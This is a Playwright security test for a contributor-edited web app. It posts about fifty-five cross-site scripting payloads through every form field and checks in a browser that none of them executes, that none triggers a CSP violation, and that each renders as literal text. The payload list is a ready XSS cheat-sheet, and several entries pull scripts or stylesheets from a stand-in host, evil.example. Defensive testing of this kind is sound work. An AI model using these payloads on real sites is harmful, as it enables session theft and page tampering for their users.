/**
 * Fifty-odd XSS payloads through every free-text field a contributor or moderator can fill —
 * entry gloss and descriptions, name notes, hanja and attestation, source citation, publisher and
 * year, the proposal summary, the moderator's message, the photo's author and alt texts — then
 * every page that shows them, rendered in Chromium. No script may run: a dialog listener and the
 * page's `securitypolicyviolation` events (an injected handler is blocked by the CSP and reported
 * there) must stay empty, no injected element may exist, and the payload must be on the page as
 * the very characters that were typed.
 *
 * The writes go over HTTP to a built server of the test's own with raised limits (a hundred
 * proposals and fifty photos from one account); the reading is done in the browser, which is
 * where a payload would run. Tagged @js: with scripts off nothing could run anyway.
 */
import { expect, test, type Page } from '@playwright/test';
import Database from 'better-sqlite3';
import sharp from 'sharp';
import { join } from 'node:path';
import { startBuiltServer, tempDir, type BuiltServer } from '../support/built-server';
import { approveProposalForm, postForm, rawRequest } from '../support/http';
import { GENEROUS_LIMITS, newEntryForm, signUp, submittedId } from '../faults/accounts';

/** One line each (the page collapses whitespace); no leading or trailing space (fields are trimmed). */
const PAYLOADS = [
	'<script>alert(1)</script>',
	'<ScRiPt>alert(2)</sCrIpT>',
	'<script src=//evil.example/x.js></script>',
	'"><script>alert(3)</script>',
	"'><script>alert(4)</script>",
	'</script><script>alert(5)</script>',
	'</title><script>alert(6)</script>',
	'</textarea><script>alert(7)</script>',
	'<img src=x onerror=alert(8)>',
	'<img src=x onerror="alert(9)">',
	'<IMG SRC=# onmouseover="alert(10)">',
	'<img src="javascript:alert(11)">',
	'<img src=x:alert(12) onerror=eval(src)>',
	'<img/src/onerror=alert(13)>',
	'<svg onload=alert(14)>',
	'<svg><script>alert(15)</script></svg>',
	'<svg><animate onbegin=alert(16) attributeName=x dur=1s>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(17)>',
	'<body onload=alert(18)>',
	'<iframe src="javascript:alert(19)"></iframe>',
	'<iframe srcdoc="<script>alert(20)</script>"></iframe>',
	'<object data="javascript:alert(21)"></object>',
	'<embed src="javascript:alert(22)">',
	'<a href="javascript:alert(23)">click</a>',
	'<a href="jav&#x09;ascript:alert(24)">tab</a>',
	'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(25)">ent</a>',
	'<details open ontoggle=alert(26)>',
	'<input autofocus onfocus=alert(27)>',
	'<select autofocus onfocus=alert(28)></select>',
	'<textarea autofocus onfocus=alert(29)></textarea>',
	'<video><source onerror=alert(30)></video>',
	'<audio src=x onerror=alert(31)>',
	'<marquee onstart=alert(32)>x</marquee>',
	'<div style="background:url(javascript:alert(33))">',
	'<style>@import "//evil.example/x.css";</style>',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(34)">',
	'<base href="//evil.example/">',
	'<form action="javascript:alert(35)"><button>go</button></form>',
	'<button formaction="javascript:alert(36)">go</button>',
	'<isindex type=image src=1 onerror=alert(37)>',
	'<xss onpointerover=alert(38) style=display:block>hover',
	'<noscript><p title="</noscript><img src=x onerror=alert(39)>">',
	'<template><img src=x onerror=alert(40)></template>',
	'<!--<img src="--><img src=x onerror=alert(41)//">',
	'<![CDATA[<script>alert(42)</script>]]>',
	'&lt;script&gt;alert(43)&lt;/script&gt;',
	'%3Cscript%3Ealert(44)%3C/script%3E',
	'\\u003cscript\\u003ealert(45)\\u003c/script\\u003e',
	'javascript:alert(46)',
	'data:text/html,<script>alert(47)</script>',
	'{{constructor.constructor("alert(48)")()}}',
	'${alert(49)}',
	'{@html "<img src=x onerror=alert(50)>"}',
	'"onmouseover="alert(51)',
	"' onfocus='alert(52)' autofocus '",
	'<img src=x onerror=alert(53)>냉면',
	'<scr<script>ipt>alert(54)</scr</script>ipt>',
	'<svg><a xlink:href="javascript:alert(55)"><text x=20 y=20>x</text></a></svg>'
];

const FIELD_LIMITS = {
	english: 120,
	description: 2000,
	hanja: 40,
	note: 500,
	attested: 40,
	citation: 300,
	publisher: 150,
	year: 20,
	summary: 300,
	message: 1000,
	author: 120,
	alt: 300
} as const;

/** The payload cut to a field's length: still hostile, and still what the reader must see as text. */
const fit = (payload: string, field: keyof typeof FIELD_LIMITS) =>
	payload.slice(0, FIELD_LIMITS[field]).trim();
/** Entries' glosses carry their number, so every entry is told apart from the others. */
const glossOf = (payload: string, i: number) => `${payload.slice(0, 110).trim()} #${i}`;

interface Written {
	payload: string;
	slug: string;
	proposalId: number;
	rejectedId: number;
}

/** A multipart body as a browser's file form sends it. */
function multipart(
	fields: Record<string, string>,
	file: { name: string; type: string; bytes: Buffer }
) {
	const boundary = `----nambukXss${Math.random().toString(16).slice(2)}`;
	const parts: Buffer[] = Object.entries(fields).map(([name, value]) =>
		Buffer.from(
			`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
		)
	);
	parts.push(
		Buffer.from(
			`--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`
		),
		file.bytes,
		Buffer.from(`\r\n--${boundary}--\r\n`)
	);
	return { body: Buffer.concat(parts), type: `multipart/form-data; boundary=${boundary}` };
}

function hostileEntry(payload: string, i: number): Record<string, string> {
	return {
		...newEntryForm(glossOf(payload, i)),
		// The Korean texts are required: numbered like the gloss, so they are never blank.
		glossKo: glossOf(payload, i),
		whyEn: `${payload.slice(0, 390).trim()} #${i}`,
		whyKo: `${payload.slice(0, 390).trim()} #${i}`,
		description: fit(payload, 'description'),
		descriptionKo: fit(payload, 'description'),
		'names.0.hanja': fit(payload, 'hanja'),
		'names.0.note': fit(payload, 'note'),
		'names.0.noteKo': fit(payload, 'note'),
		'names.0.attested': fit(payload, 'attested'),
		'names.1.hanja': fit(payload, 'hanja'),
		'names.1.note': fit(payload, 'note'),
		'names.1.noteKo': fit(payload, 'note'),
		'names.1.attested': fit(payload, 'attested'),
		'sources.0.citation': fit(payload, 'citation'),
		'sources.0.publisher': fit(payload, 'publisher'),
		'sources.0.year': fit(payload, 'year'),
		summary: fit(payload, 'summary')
	};
}

async function writeEverything(
	server: BuiltServer,
	contributor: string,
	moderator: string
): Promise<Written[]> {
	const written: Written[] = [];
	const db = new Database(server.databasePath, { readonly: true });
	try {
		for (const [i, payload] of PAYLOADS.entries()) {
			const proposed = await postForm(
				server.url,
				'/contribute',
				hostileEntry(payload, i),
				contributor
			);
			const proposalId = submittedId(proposed);
			expect(proposalId, `proposal with payload ${i} (${proposed.status})`).not.toBeNull();
			const approved = await approveProposalForm(server.url, proposalId!, moderator);
			expect(approved.status, `approval of payload ${i}`).toBe(303);
			const { slug } = db
				.prepare('SELECT slug FROM entry WHERE english = ?')
				.get(glossOf(payload, i)) as { slug: string };

			// The photo's texts: a distinct tiny image each time (the same file twice is refused).
			const png = await sharp({
				create: {
					width: 320,
					height: 240,
					channels: 3,
					background: { r: i * 4, g: 120, b: 255 - i * 4 }
				}
			})
				.png()
				.toBuffer();
			const form = multipart(
				{
					origin: 'existing',
					licence: 'cc-by-4.0',
					author: fit(payload, 'author'),
					sourceUrl: 'https://example.org/photo',
					altEn: fit(payload, 'alt'),
					altKo: fit(payload, 'alt')
				},
				{ name: `${i}.png`, type: 'image/png', bytes: png }
			);
			const uploaded = await rawRequest(`${server.url}/entries/${slug}/photo`, {
				method: 'POST',
				headers: {
					'content-type': form.type,
					accept: 'text/html',
					origin: server.url,
					cookie: contributor
				},
				body: form.body
			});
			const photoId = /[?&]submitted=(\d+)/.exec(String(uploaded.headers['location'] ?? ''))?.[1];
			expect(photoId, `photo with payload ${i} (${uploaded.status})`).toBeTruthy();
			const shown = await postForm(
				server.url,
				'/moderate/photos?/approve',
				{ id: photoId! },
				moderator
			);
			expect(shown.status, `photo approval of payload ${i}`).toBe(303);

			// An edit of the new entry (fresh names, the same hostile texts), approved: version 2, so
			// the history has a diff to show with the payloads on both sides.
			const edit = await postForm(
				server.url,
				`/entries/${slug}/edit`,
				{ ...hostileEntry(payload, i), baseVersion: '1' },
				contributor
			);
			const editId = submittedId(edit);
			expect(editId, `edit with payload ${i} (${edit.status})`).not.toBeNull();
			const editApproved = await approveProposalForm(server.url, editId!, moderator);
			expect(editApproved.status, `approval of the edit with payload ${i}`).toBe(303);

			// A third proposal, rejected with the payload as the reason the contributor reads.
			const second = await postForm(
				server.url,
				'/contribute',
				hostileEntry(payload, i + 1000),
				contributor
			);
			const rejectedId = submittedId(second)!;
			const rejected = await postForm(
				server.url,
				`/moderate/${rejectedId}?/reject`,
				{ message: fit(payload, 'message') },
				moderator
			);
			expect(rejected.status, `rejection of payload ${i}`).toBe(303);
			written.push({ payload, slug, proposalId: proposalId!, rejectedId });
		}
	} finally {
		db.close();
	}
	return written;
}

/**
 * What a page shows of an attack: dialogs, CSP reports, injected elements. The CSP listener is
 * installed before any of the page's own code, so a blocked handler anywhere is caught.
 */
async function watch(page: Page) {
	const dialogs: string[] = [];
	page.on('dialog', (d) => {
		dialogs.push(d.message());
		void d.dismiss();
	});
	await page.addInitScript(() => {
		const w = window as unknown as { __cspViolations: string[] };
		w.__cspViolations = [];
		document.addEventListener('securitypolicyviolation', (e) =>
			w.__cspViolations.push(`${e.violatedDirective}: ${e.sample || e.blockedURI}`)
		);
	});
	return dialogs;
}

/** Elements and attributes that only an injection could have put into one of our pages. */
function injectedElements(page: Page): Promise<string[]> {
	return page.evaluate((OWN_DETAILS) => {
		const found: string[] = [];
		for (const el of document.querySelectorAll('*')) {
			const tag = el.tagName.toLowerCase();
			for (const attr of el.getAttributeNames()) {
				const value = el.getAttribute(attr) ?? '';
				if (attr.startsWith('on')) found.push(`${tag}[${attr}]`);
				// data: only where it could run (a photo placeholder is a data: image in a style).
				const runs =
					/^\s*javascript:/i.test(value) ||
					(/^\s*data:/i.test(value) && attr !== 'style' && attr !== 'src');
				if (runs && ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(attr))
					found.push(`${tag}[${attr}=${value.slice(0, 30)}]`);
			}
			if (
				[
					'iframe',
					'object',
					'embed',
					'base',
					'marquee',
					'xss',
					'isindex',
					'math',
					'video',
					'audio',
					'details',
					'template'
				].includes(tag) &&
				// The site's own disclosures (browse filters, the queue's changes, the decoder's
				// rewrite); any other <details> is a payload's.
				!(tag === 'details' && el.matches(OWN_DETAILS))
			)
				found.push(tag);
			if (tag === 'meta' && el.hasAttribute('http-equiv')) found.push('meta[http-equiv]');
			// The host, not the word: an entry's own slug may well read "…-evil-example-…".
			if (tag === 'link' && /\/\/evil\.example/.test(el.getAttribute('href') ?? ''))
				found.push('link[evil]');
			if (tag === 'style' && /\/\/evil\.example/.test(el.textContent ?? ''))
				found.push('style[evil]');
			if (tag === 'script') {
				const type = el.getAttribute('type');
				const ours = el.hasAttribute('src')
					? /^\/(_app\/|entry-enhance\.js$)/.test(el.getAttribute('src')!)
					: type === 'application/ld+json' || /__sveltekit_/.test(el.textContent ?? '');
				if (!ours)
					found.push(`script ${(el.textContent ?? el.getAttribute('src') ?? '').slice(0, 40)}`);
			}
		}
		return found;
	}, 'details.filters-box, details.changes, details.rewrite');
}

/** The page's visible text (scripts left out), whitespace collapsed. */
function shownText(page: Page): Promise<string> {
	return page.evaluate(() => {
		const copy = document.body.cloneNode(true) as HTMLElement;
		for (const s of copy.querySelectorAll('script, style')) s.remove();
		return (copy.textContent ?? '').replace(/\s+/g, ' ');
	});
}

const collapse = (s: string) => s.replace(/\s+/g, ' ');

async function expectInert(page: Page, dialogs: string[], where: string, texts: string[] = []) {
	// Give an injected handler its chance: images fail to load, autofocus fires, animations begin.
	await page.waitForLoadState('load');
	// Every image has loaded or failed (so its onerror has run), then two frames have been
	// painted (so autofocus, animation and transition handlers have had theirs). A lazy image
	// below the fold would never load (nor run an injected handler), so it is made eager first.
	await page.evaluate(() => {
		for (const image of document.images) if (image.loading === 'lazy') image.loading = 'eager';
	});
	await page.waitForFunction(() => [...document.images].every((image) => image.complete));
	await page.evaluate(
		() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))
	);
	expect(dialogs, `dialogs on ${where}`).toEqual([]);
	expect(
		await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations),
		`CSP on ${where}`
	).toEqual([]);
	expect(await injectedElements(page), `injected on ${where}`).toEqual([]);
	const shown = await shownText(page);
	for (const text of texts)
		expect(shown, `${where} shows ${JSON.stringify(text)} as text`).toContain(collapse(text));
}

test('@js no XSS payload in any contributor or moderator text field runs on any page that shows it', async ({
	browser
}) => {
	test.setTimeout(15 * 60_000);
	const dir = tempDir('xss');
	const server = await startBuiltServer({
		databasePath: join(dir, 'xss.sqlite'),
		env: {
			...GENEROUS_LIMITS,
			RATE_LIMIT_PHOTO_USER: '100000',
			BODY_SIZE_LIMIT: '16M',
			LOG_REQUESTS: '0'
		}
	});
	try {
		const run = Date.now().toString(36);
		const contributorName = `xssc${run}`;
		const contributor = await signUp(server.url, server.databasePath, contributorName);
		const moderator = await signUp(server.url, server.databasePath, `xssm${run}`, 'moderator');
		const written = await writeEverything(server, contributor, moderator);
		expect(written.length).toBeGreaterThanOrEqual(50);

		const context = await browser.newContext({ baseURL: server.url });
		const cookie = (c: string) => ({ name: 'session', value: c.split('=')[1]!, url: server.url });
		await context.addCookies([cookie(moderator)]);
		const page = await context.newPage();
		const dialogs = await watch(page);

		// The detector itself: an injected handler is blocked by the CSP and reported, so an empty
		// list below means nothing was injected, not that nothing was listened to.
		await page.goto('/');
		await page.evaluate(() => {
			const probe = document.createElement('div');
			probe.innerHTML = '<img src="/favicon.png" onerror="alert(0)" onload="alert(0)">';
			document.body.append(probe);
		});
		await expect
			.poll(() =>
				page.evaluate(
					() => (window as unknown as { __cspViolations: string[] }).__cspViolations.length
				)
			)
			.toBeGreaterThan(0);
		expect(await injectedElements(page)).toContain('img[onerror]');
		await page.reload();

		for (const { payload, slug, proposalId } of written) {
			const i = PAYLOADS.indexOf(payload);
			await page.goto(`/entries/${slug}`);
			await expectInert(page, dialogs, `/entries/${slug}`, [
				glossOf(payload, i),
				fit(payload, 'note'),
				fit(payload, 'attested'),
				fit(payload, 'citation'),
				fit(payload, 'publisher'),
				fit(payload, 'year'),
				fit(payload, 'author')
			]);
			// The photo's alt text is an attribute: it must come back exactly, not as markup.
			await expect(
				page.getByRole('img', { name: fit(payload, 'alt'), exact: true }).first()
			).toBeAttached();
			await page.goto(`/ko/entries/${slug}`);
			await expectInert(page, dialogs, `/ko/entries/${slug}`, [fit(payload, 'description')]);
			await page.goto(`/entries/${slug}/history`);
			await expectInert(page, dialogs, `/entries/${slug}/history`, [fit(payload, 'summary')]);
			await expect(page.getByRole('link', { name: 'Changes in version 2' })).toBeVisible();
			await page.goto(`/entries/${slug}/history?from=1&to=2`);
			await expectInert(page, dialogs, `diff of ${slug}`, [
				fit(payload, 'hanja'),
				fit(payload, 'note')
			]);
			await page.goto(`/moderate/${proposalId}`);
			// The proposal as its reviewer saw it (a new entry: every field listed).
			await expectInert(page, dialogs, `/moderate/${proposalId}`);
			await page.goto(`/compare?a=${slug}&b=naengmyeon`);
			await expectInert(page, dialogs, `/compare ${slug}`, [glossOf(payload, i)]);
			await page.goto(`/search?q=${encodeURIComponent(payload.slice(0, 100))}`);
			await expectInert(page, dialogs, `/search ${i}`);
		}
		for (const path of ['/credits', '/entries?sort=recent', '/moderate', '/moderate/photos']) {
			await page.goto(path);
			await expectInert(page, dialogs, path);
		}

		// The contributor's own page: every rejection reason, as text.
		await context.clearCookies();
		await context.addCookies([cookie(contributor)]);
		await page.goto('/account');
		await expectInert(
			page,
			dialogs,
			'/account',
			written.map((w) => fit(w.payload, 'message'))
		);
	} finally {
		await server.stop();
	}
});
